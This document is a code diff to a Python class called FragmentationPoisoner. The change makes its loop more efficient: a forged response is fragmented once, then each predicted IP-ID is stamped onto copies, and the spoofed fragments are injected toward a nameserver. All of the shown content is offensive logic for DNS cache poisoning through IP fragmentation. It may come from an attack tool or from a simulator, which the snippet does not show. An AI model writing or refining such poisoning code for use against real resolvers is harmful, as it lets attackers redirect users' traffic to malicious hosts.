@@ -187,9 +187,16 @@ class FragmentationPoisoner:
             # Sequential-IP-ID prediction: the attacker probes the nameserver
             # from its own vantage point and extrapolates the next values.
             starting_ipid = self._predict_next_ipid()
-        for ip_id in range(starting_ipid, starting_ipid + self.ipid_window):
-            fragments = self.craft_spoofed_fragments(expected_response, udp_src_port,
-                                                     udp_dst_port, ip_id & 0xFFFF)
+        # The burst differs between candidate IP-IDs only in the IP header
+        # field: forge, encode and fragment the response once, then stamp
+        # each candidate id onto copies of the template fragments instead of
+        # re-encoding the identical payload per window entry.
+        template = self.craft_spoofed_fragments(expected_response, udp_src_port,
+                                                udp_dst_port, starting_ipid & 0xFFFF)
+        for offset in range(self.ipid_window):
+            ip_id = (starting_ipid + offset) & 0xFFFF
+            fragments = (template if offset == 0 else
+                         [replace(fragment, ip_id=ip_id) for fragment in template])
             for fragment in fragments:
                 self.network.inject(fragment)
                 report.planted_fragments += 1
